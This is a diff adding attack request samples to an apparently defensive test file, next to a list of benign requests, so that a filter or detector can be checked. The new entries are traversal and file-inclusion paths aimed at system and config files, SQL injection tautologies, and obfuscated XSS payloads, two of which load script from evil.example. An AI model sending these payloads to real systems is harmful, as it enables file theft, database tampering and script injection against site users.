@@ -98,6 +98,22 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['protocol-ldap-injection', '/people?cn=admin)(|'],
   ['protocol-response-splitting', '/?a=GET%20http%3A%2F%2Fbackend.example%20HTTP%2F1.2'], // a request line smuggled in
   ['lfi-system-file', '/files?path=/etc/letsencrypt/live/shop.example/privkey.pem'],
+  ['lfi-traversal', '/download?file=....//....//....//readflag'], // what is left once a filter strips ../ once
+  ['lfi-absolute-path', '/page?file=/etc/exports'],
+  ['lfi-absolute-path', '/page?file=file:///usr/local/apache2/conf/httpd.conf'],
+  ['lfi-absolute-path', '/view//var/www/config.php'],
+  ['lfi-absolute-path', '/page?f=/windows/system32/drivers/etc/networks'],
+  ['sqli-case-when', '/item?id=(select (case when (1=2) then 1 else 0 end))'],
+  ['sqli-numeric-tautology', '/item?id=1 or not 2=3-- -'],
+  ['sqli-numeric-tautology', '/item?id=1) where 7=8 or 9>8#'],
+  ['sqli-function', '/item?id=iif(1=2,1,1/0)'],
+  ['xss-global-access', '/p?x=top[8680439..toString(30)](1)'], // alert, spelt as a number in base 30
+  ['xss-no-parentheses', '/p?x=new Map([[1,alert]]).forEach(f=>f(1))'],
+  ['xss-no-parentheses', '/p?x=for(let k in{alert})window[k](1)'],
+  ['xss-no-parentheses', '/p?x=var a=alert;a(1)'],
+  ['xss-js-sink', "/p?x=$.getScript('//evil.example/x.js')"],
+  ['xss-js-sink', "/p?x=navigator.serviceWorker.register('//evil.example/sw.js')"],
+  ['xss-handler-attribute', "/p?x=write('\\74img/src/o\\156error\\75alert\\501\\51\\76')"], // octal escapes
 ];
 
 const BENIGN: readonly string[] = [
